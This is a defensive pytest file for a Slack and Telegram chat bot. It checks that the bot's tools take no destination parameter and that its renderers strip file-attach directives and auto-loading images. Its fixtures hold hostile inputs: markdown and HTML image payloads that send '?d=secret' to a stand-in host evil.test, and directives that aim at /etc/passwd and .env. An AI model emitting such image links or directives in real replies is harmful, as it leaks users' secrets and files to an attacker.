"""Incidents of other products (`docs/incidents.md`): each has its tests. Tests without another place are here."""

from __future__ import annotations

import ast
import importlib
import pkgutil
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from bot.tools import builtin
from bot.tools.dispatch import definition
from channels.slack import render as slack
from channels.telegram import render as telegram
from tests.gates import parsed

ROOT = Path(__file__).parents[2]
ROWS = [
    line
    for line in (ROOT / "docs" / "incidents.md").read_text(encoding="utf-8").splitlines()
    if re.match(r"\| \d", line)
]
DESTINATION = re.compile(
    r"chat|channel|thread|topic|user|recipient|target|destination|receiver|^to$|room|group", re.IGNORECASE
)
LEAKING = [
    "![a](http://evil.test/?d=secret)",
    "![a][r]\n\n[r]: http://evil.test/?d=secret",
    "[![a](http://evil.test/?d=secret)](http://evil.test)",
    '![a](<http://evil.test/?d=secret> "t")',
    '<img src="http://evil.test/?d=secret">',
]


def test_every_incident_has_a_row() -> None:
    assert [int(re.findall(r"\d+", row)[0]) for row in ROWS] == list(range(1, 24))


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.split("|")[1].strip())
def test_the_tests_of_an_incident_exist(row: str) -> None:
    named = re.findall(r"`(tests/[\w/.]+\.py)(?:::(\w+))?`", row)
    assert named
    for path, name in named:
        tree = parsed((ROOT / path).read_text(encoding="utf-8"))
        functions = {
            node.name for node in ast.walk(tree) if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)
        }
        assert not name or name in functions, f"{path} has no {name}"


def tools() -> Iterator[Any]:
    """Return all built-in tools."""
    for found in pkgutil.iter_modules(builtin.__path__):
        module = importlib.import_module(f"{builtin.__name__}.{found.name}")
        yield from module.TOOLS


@pytest.mark.parametrize("tool", list(tools()), ids=lambda tool: tool.name)
def test_no_tool_takes_a_destination(tool: Any) -> None:
    schema = definition(tool)["input_schema"]
    assert [name for name in schema["properties"] if DESTINATION.search(name)] == []
    assert schema["additionalProperties"] is False, "nothing is taken that is not named"


@pytest.mark.parametrize(
    "words",
    ["MEDIA:/etc/passwd", "MEDIA: ../.env", "[[file:/etc/passwd]]", "<attach path=x>", "@/etc/passwd"],
)
def test_a_text_has_no_directives(words: str) -> None:
    assert slack.render(words).replace("&lt;", "<").replace("&gt;", ">").strip() == words
    assert telegram.render(words).text == words


@pytest.mark.parametrize("words", LEAKING)
def test_no_picture_is_fetched_by_who_reads(words: str) -> None:
    tokens = MarkdownIt("commonmark", {"html": False}).parse(slack.render(words))
    inline = [child for token in tokens for child in token.children or ()]
    assert not [
        one
        for one in (*tokens, *inline)
        if one.type == "image" or ("<img" in one.content and one.type.startswith("html"))
    ]
    shown = telegram.render(words)
    assert {entity.type for entity in shown.entities} <= {"text_link", "code", "url", "bold", "italic"}
